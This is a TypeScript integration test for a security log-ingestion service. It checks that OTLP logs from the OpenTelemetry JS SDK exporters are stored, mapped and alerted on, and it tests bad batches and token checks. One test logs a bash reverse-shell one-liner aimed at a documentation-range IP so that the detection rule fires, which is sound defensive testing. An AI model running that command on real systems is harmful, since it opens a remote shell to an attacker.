// services: process
/**
 * OpenTelemetry logs into the real `npm start` process, sent by the OpenTelemetry JS SDK's own OTLP exporters (the
 * protobuf one with gzip, and the JSON one): each record searchable with its resource identity, severity and trace
 * context mapped, stamped with the route's provenance, and read by the container rules (a reverse-shell line logged
 * through the SDK raises its alert). Then what exporters meet when a batch is partly bad (200 with `partialSuccess`,
 * the good records stored), wholly bad (400 naming the field), not OTLP at all, or sent twice (stored once).
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { ROOT_CONTEXT, trace, TraceFlags } from '@opentelemetry/api';
import { SeverityNumber } from '@opentelemetry/api-logs';
import { OTLPLogExporter as ProtoExporter } from '@opentelemetry/exporter-logs-otlp-proto';
import { OTLPLogExporter as JsonExporter } from '@opentelemetry/exporter-logs-otlp-http';
import { resourceFromAttributes } from '@opentelemetry/resources';
import { LoggerProvider, SimpleLogRecordProcessor, type LogRecordExporter } from '@opentelemetry/sdk-logs';
import { startBulwark, type BulwarkProcess } from '../support/bulwark-process.js';
import { until } from '../support/until.js';

/** rules/container/reverse_shell_one_liner.yml */
const REVERSE_SHELL = '194308d5-2a44-4cbb-9694-f55d1ff03b65';

type Hit = Record<string, any>;

describe('OTLP/HTTP logs from the OpenTelemetry JS SDK exporters into npm start', () => {
  const run = randomBytes(4).toString('hex');
  const pod = `checkout-${run}`;
  let p: BulwarkProcess;
  let shipper = '';
  let reader = '';

  const search = async (q: string): Promise<Hit[]> => (await p.get<{ hits: Hit[] }>(`/v1/search?q=${encodeURIComponent(q)}&size=50`, reader)).hits;
  const post = (body: string | Buffer, type: string, extra: Record<string, string> = {}) =>
    p.fetch('/v1/logs', { method: 'POST', token: shipper, headers: { 'content-type': type, ...extra }, body });

  /** Emits through a real LoggerProvider whose only processor exports each record at once with `exporter`. */
  async function emitWith(exporter: LogRecordExporter, records: Array<{ body: string; severity: SeverityNumber; text: string; traced?: boolean }>): Promise<void> {
    const provider = new LoggerProvider({
      resource: resourceFromAttributes({ 'service.name': 'checkout', 'k8s.namespace.name': 'shop', 'k8s.pod.name': pod, 'k8s.container.name': 'app' }),
      processors: [new SimpleLogRecordProcessor({ exporter })],
    });
    const logger = provider.getLogger('bulwark-test', '1.0.0');
    for (const r of records) {
      const context = r.traced
        ? trace.setSpanContext(ROOT_CONTEXT, { traceId: 'aa'.repeat(16), spanId: 'bb'.repeat(8), traceFlags: TraceFlags.SAMPLED })
        : ROOT_CONTEXT;
      logger.emit({ body: r.body, severityNumber: r.severity, severityText: r.text, attributes: { 'http.route': '/pay', run }, context });
    }
    await provider.forceFlush();
    await provider.shutdown();
  }

  before(async () => {
    p = await startBulwark();
    shipper = (await p.mint('otel-collector', ['ingest'], { sources: ['logs'] })).token;
    reader = (await p.mint('analyst', ['read'])).token;
  });
  after(async () => {
    await p?.stop();
  });

  it('the protobuf exporter (gzip): records searchable with resource identity, severity and trace context, stamped with provenance', async () => {
    const exporter = new ProtoExporter({ url: `${p.url}/v1/logs`, headers: { Authorization: `Bearer ${shipper}` }, compression: 'gzip' as never });
    await emitWith(exporter, [{ body: `payment accepted ${run}`, severity: SeverityNumber.INFO, text: 'INFO', traced: true }]);
    const hit = await until('the record searchable', async () => (await search(`"payment accepted ${run}"`))[0], 15_000, 200);
    assert.equal(hit.message, `payment accepted ${run}`);
    assert.equal(hit.event.dataset, 'otel.logs');
    assert.equal(hit.kubernetes.pod.name, pod);
    assert.equal(hit.kubernetes.namespace, 'shop');
    assert.equal(hit.kubernetes.container.name, 'app');
    assert.equal(hit.service.name, 'checkout');
    assert.equal(hit.log.level, 'INFO');
    assert.equal(hit.trace.id, 'aa'.repeat(16));
    assert.equal(hit.span.id, 'bb'.repeat(8));
    assert.equal(hit.attributes['http.route'], '/pay');
    assert.equal(hit.scope.name, 'bulwark-test');
    assert.equal(hit.bulwark.provenance.route, '/v1/logs');
    assert.equal(hit.bulwark.provenance.protocol, 'otlp-logs');
    assert.equal(hit.bulwark.provenance.source, 'logs');
    assert.equal(hit.bulwark.provenance.token.name, 'otel-collector');
  });

  it('the JSON exporter: a reverse-shell line an application logged raises the container rule', async () => {
    const exporter = new JsonExporter({ url: `${p.url}/v1/logs`, headers: { Authorization: `Bearer ${shipper}` } });
    const line = `bash -i >& /dev/tcp/203.0.113.${Number.parseInt(run.slice(0, 2), 16) % 250}/4444 0>&1 ${run}`;
    await emitWith(exporter, [{ body: line, severity: SeverityNumber.WARN, text: 'WARN' }]);
    const hit = await until('the line searchable', async () => (await search(`${run} AND kubernetes.pod.name:"${pod}" AND log.level:WARN`))[0], 15_000, 200);
    assert.equal(hit.message, line);
    const alert = await until('the reverse-shell alert', async () =>
      (await p.get<{ items: Array<{ event_ids: string[] }> }>(`/v1/alerts?rule=${REVERSE_SHELL}&size=100`, reader)).items.find((a) => a.event_ids.includes(hit.event.id)), 30_000, 250);
    assert.ok(alert);
  });

  it('a partly bad batch: 200 with partialSuccess naming the bad record, the good one stored; a retry stores nothing twice', async () => {
    const good = { timeUnixNano: String(BigInt(Date.now()) * 1_000_000n), body: { stringValue: `good record ${run}` } };
    const bad = { timeUnixNano: 'yesterday', body: { stringValue: `bad record ${run}` } };
    const body = JSON.stringify({ resourceLogs: [{ resource: { attributes: [{ key: 'service.name', value: { stringValue: 'batch' } }] }, scopeLogs: [{ logRecords: [good, bad] }] }] });
    for (let attempt = 0; attempt < 2; attempt++) {
      const res = await post(body, 'application/json');
      assert.equal(res.status, 200);
      const answer = (await res.json()) as { partialSuccess?: { rejectedLogRecords: string; errorMessage: string } };
      assert.equal(answer.partialSuccess?.rejectedLogRecords, '1');
      assert.match(answer.partialSuccess?.errorMessage ?? '', /record 1 field resourceLogs\[0\]\.scopeLogs\[0\]\.logRecords\[1\]\.timeUnixNano/);
    }
    const hits = await until('the good record searchable', async () => (await search(`"good record ${run}"`)).length > 0 && search(`"good record ${run}"`), 15_000, 200);
    assert.equal(hits.length, 1, 'sent twice, stored once');
    assert.deepEqual(await search(`"bad record ${run}"`), []);
  });

  it('refuses what no record of can be stored, naming the problem: all bad (400), not OTLP protobuf (400), another media type (415)', async () => {
    const allBad = JSON.stringify({ resourceLogs: [{ scopeLogs: [{ logRecords: [{ traceId: 'xyz', body: { stringValue: 'x' } }] }] }] });
    const res = await post(gzipSync(allBad), 'application/json', { 'content-encoding': 'gzip' });
    assert.equal(res.status, 400);
    const err = (await res.json()) as { error: { code: string; details: { errors: Array<{ field: string }> } } };
    assert.equal(err.error.code, 'BWK_INGEST_REJECTED_RECORDS');
    assert.equal(err.error.details.errors[0]!.field, 'resourceLogs[0].scopeLogs[0].logRecords[0].traceId');
    const garbage = await post(Buffer.from([0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f]), 'application/x-protobuf');
    assert.equal(garbage.status, 400);
    assert.equal(((await garbage.json()) as { error: { code: string } }).error.code, 'BWK_INGEST_BAD_PROTOBUF');
    const text = await post('hello', 'text/plain');
    assert.equal(text.status, 415);
  });

  it('needs an ingest token that may speak for logs', async () => {
    const none = await p.fetch('/v1/logs', { method: 'POST', token: null, headers: { 'content-type': 'application/json' }, body: '{}' });
    assert.equal(none.status, 401);
    const auditOnly = (await p.mint('audit-only', ['ingest'], { sources: ['k8s-audit'] })).token;
    const wrong = await p.fetch('/v1/logs', { method: 'POST', token: auditOnly, headers: { 'content-type': 'application/json' }, body: '{}' });
    assert.equal(wrong.status, 403);
  });
});
